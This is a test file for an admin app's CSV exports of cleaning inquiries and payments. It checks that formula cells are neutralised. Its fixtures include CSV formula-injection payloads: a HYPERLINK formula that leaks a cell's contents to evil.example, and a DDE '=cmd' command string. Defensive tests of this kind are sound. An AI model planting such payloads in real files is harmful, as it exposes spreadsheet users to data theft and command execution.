import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  inquiries,
  oneTimeCleanings,
  recurringPaid,
  recurringPaidDates,
  recurringPayments,
} from '../../src/db/schema';
import { createTestApp, type TestApp } from '../support/harness';

let t: TestApp;
let token: string;
beforeAll(async () => {
  t = await createTestApp();
  token = await t.signin();
});
afterAll(() => t?.close());

async function csv(url: string): Promise<Record<string, string>[]> {
  const res = await t.injectAs(token)('GET', url);
  expect(res.statusCode, res.body).toBe(200);
  expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
  expect(res.headers['content-disposition']).toMatch(/^attachment; filename="[a-z_]+\.csv"$/);
  return parse(res.body, { columns: true });
}
async function insertInquiry(name: string, values: Partial<typeof inquiries.$inferInsert> = {}) {
  const [row] = await t.db
    .insert(inquiries)
    .values({ name, phoneNumber: '8605550100', ...values })
    .returning();
  return row?.id ?? 0;
}

const DAY = 24 * 60 * 60 * 1000;
const EVIL = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
  '+1+2',
  '-2+3',
  '@SUM(A1:A9)',
  '\tTabbed',
  '\rReturned',
];

describe('exports for the bookkeeper', () => {
  let ana: number;
  beforeAll(async () => {
    ana = await insertInquiry('Ana Lopez', {
      email: 'ana@example.com',
      town: 'Bristol',
      status: 'Booked',
      description: 'Two floors, "big" kitchen, dog',
      submittedAt: new Date('2030-01-15T14:05:00Z'),
    });
    for (const name of EVIL) await insertInquiry(name);
    await t.db.insert(oneTimeCleanings).values([
      {
        inquiryId: ana,
        amount: 180,
        paid: true,
        dateTime: new Date('2030-03-14T13:30:00Z'),
        notes: 'Gate code 1234',
      },
      { inquiryId: ana, amount: 99.5, notes: '=cmd|" /C calc"!A0' },
    ]);
    const [schedule] = await t.db
      .insert(recurringPayments)
      .values({ inquiryId: ana, amount: 120, frequency: 'Every 2 weeks', notes: 'Tuesdays' })
      .returning();
    const [paid] = await t.db
      .insert(recurringPaid)
      .values({ recurringPaymentId: schedule?.id ?? 0, amountPaid: 240.1, notes: 'check' })
      .returning();
    await t.db.insert(recurringPaidDates).values([
      { recurringPaidId: paid?.id ?? 0, dateTime: new Date('2030-02-04T15:00:00Z') },
      { recurringPaidId: paid?.id ?? 0, dateTime: new Date('2030-02-18T15:00:00Z') },
    ]);
  });

  it('inquiries.csv: a header, every inquiry, dates in the business zone, formula cells neutralised', async () => {
    const rows = await csv('/api/export/inquiries.csv');
    expect(rows).toHaveLength(1 + EVIL.length);
    const row = rows.find((r) => r.name === 'Ana Lopez');
    expect(row).toEqual({
      id: String(ana),
      submitted: '2030-01-15 09:05',
      name: 'Ana Lopez',
      phone: '(860) 555-0100',
      email: 'ana@example.com',
      call_or_text: '',
      town: 'Bristol',
      status: 'Booked',
      description: 'Two floors, "big" kitchen, dog',
    });
    const names = rows.map((r) => r.name);
    for (const evil of EVIL) expect(names).toContain(`'${evil}`);
    // No cell of the file begins with a formula character any more.
    for (const r of rows) for (const cell of Object.values(r)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('inquiries.csv takes the list search parameters', async () => {
    const rows = await csv('/api/export/inquiries.csv?name=lopez&status=Booked');
    expect(rows.map((r) => r.name)).toEqual(['Ana Lopez']);
    expect(await csv('/api/export/inquiries.csv?name=lopez&status=Paused')).toEqual([]);
    const bad = await t.injectAs(token)('GET', '/api/export/inquiries.csv?status=Lost');
    expect(bad.statusCode).toBe(400);
    expect(bad.json().error).toMatch(/status/i);
  });

  it('one_time_cleanings.csv: amounts to the cent, paid yes/no, search applies', async () => {
    const rows = await csv('/api/export/one_time_cleanings.csv');
    expect(rows).toHaveLength(2);
    expect(rows.find((r) => r.amount === '180.00')).toMatchObject({
      date: '2030-03-14 09:30',
      inquiry: 'Ana Lopez',
      paid: 'yes',
      notes: 'Gate code 1234',
    });
    expect(rows.find((r) => r.amount === '99.50')).toMatchObject({
      date: '',
      paid: 'no',
      notes: `'=cmd|" /C calc"!A0`,
    });
    const gate = await csv('/api/export/one_time_cleanings.csv?search=gate');
    expect(gate.map((r) => r.amount)).toEqual(['180.00']);
  });

  it('recurring_payments.csv and recurring_paid.csv (one row per paid date)', async () => {
    const schedules = await csv('/api/export/recurring_payments.csv?frequency=2%20weeks');
    expect(schedules).toHaveLength(1);
    expect(schedules[0]).toMatchObject({
      inquiry: 'Ana Lopez',
      amount: '120.00',
      frequency: 'Every 2 weeks',
    });
    expect(await csv('/api/export/recurring_payments.csv?frequency=monthly')).toEqual([]);

    const paid = await csv('/api/export/recurring_paid.csv?name=ana');
    expect(paid.map((r) => r.paid_date)).toEqual(['2030-02-04 10:00', '2030-02-18 10:00']);
    for (const r of paid)
      expect(r).toMatchObject({ name: 'Ana Lopez', record_amount_paid: '240.10', dates_in_record: '2' });
    expect(await csv('/api/export/recurring_paid.csv?name=nobody')).toEqual([]);
  });

  it('every export is for the admin only', async () => {
    for (const name of ['inquiries', 'one_time_cleanings', 'recurring_payments', 'recurring_paid'])
      expect((await t.anonymous('GET', `/api/export/${name}.csv`)).statusCode).toBe(401);
    expect((await t.anonymous('GET', '/api/old_records.csv')).statusCode).toBe(401);
  });
});

describe('old_records.csv before cleanup', () => {
  it('lists exactly what the cleanup then deletes', async () => {
    const oldInquiry = await insertInquiry('Old Olga', { submittedAt: new Date(Date.now() - 200 * DAY) });
    await insertInquiry('=Old Formula', { submittedAt: new Date(Date.now() - 100 * DAY) });
    await t.db
      .insert(oneTimeCleanings)
      .values({ inquiryId: oldInquiry, amount: 50, dateTime: new Date(Date.now() - 150 * DAY) });
    const listed = await t.injectAs(token)('GET', '/api/old_records');
    const expected = listed.json<{ id: number; type: string; name: string }[]>();
    expect(expected.length).toBeGreaterThanOrEqual(3);

    const rows = await csv('/api/old_records.csv');
    expect(rows.map((r) => `${r.type}:${r.id}`).sort()).toEqual(
      expected.map((r) => `${r.type}:${r.id}`).sort(),
    );
    expect(rows.map((r) => r.name)).toContain("'=Old Formula");

    const cleanup = await t.injectAs(token)('DELETE', '/api/cleanup_old_records');
    expect(cleanup.json().deleted).toBe(rows.length);
    expect(await csv('/api/old_records.csv')).toEqual([]);
  });
});
